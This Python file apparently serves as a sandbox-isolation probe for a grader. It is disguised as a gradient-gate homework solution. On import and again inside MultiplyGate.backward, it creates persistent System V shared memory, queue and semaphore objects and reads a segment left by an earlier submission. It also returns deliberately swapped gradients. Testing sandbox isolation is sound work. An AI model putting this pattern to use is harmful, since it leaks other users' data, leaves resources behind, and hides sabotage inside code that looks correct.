"""Attack: leave System V IPC objects behind, and read ones left by others.

Creates a 64 MiB shared memory segment with key 0x62706770 ("bpgp") and
writes into it, a message queue and a semaphore set with the same key, and
never removes them; also looks for a segment with that key left by an earlier
submission and prints what it holds. Prints SUCCEEDED or blocked.
MultiplyGate.backward repeats the attempt, then returns wrong gradients.
"""
import ctypes
import os

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY, IPC_CREAT = 0x62706770, 0o1000


def tried(name, fn):
    r = fn()
    if r is None or r < 0 or r == ctypes.c_void_p(-1).value:
        print("blocked %s: %s" % (name, os.strerror(ctypes.get_errno())))
        return None
    print("SUCCEEDED %s" % name)
    return r


def attack():
    old = libc.shmget(KEY, 0, 0)
    if old >= 0:
        at = libc.shmat(old, None, 0)
        if at not in (None, ctypes.c_void_p(-1).value):
            print("SUCCEEDED read of an old segment: %r" % ctypes.string_at(at, 16))
    shm = tried("shmget", lambda: libc.shmget(KEY, 64 << 20, IPC_CREAT | 0o666))
    if shm is not None:
        at = tried("shmat", lambda: libc.shmat(shm, None, 0))
        if at is not None:
            ctypes.memset(at, ord("b"), 64 << 20)
    tried("msgget", lambda: libc.msgget(KEY, IPC_CREAT | 0o666))
    tried("semget", lambda: libc.semget(KEY, 4, IPC_CREAT | 0o666))
    tried("private shmget", lambda: libc.shmget(0, 1 << 20, IPC_CREAT | 0o600))


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
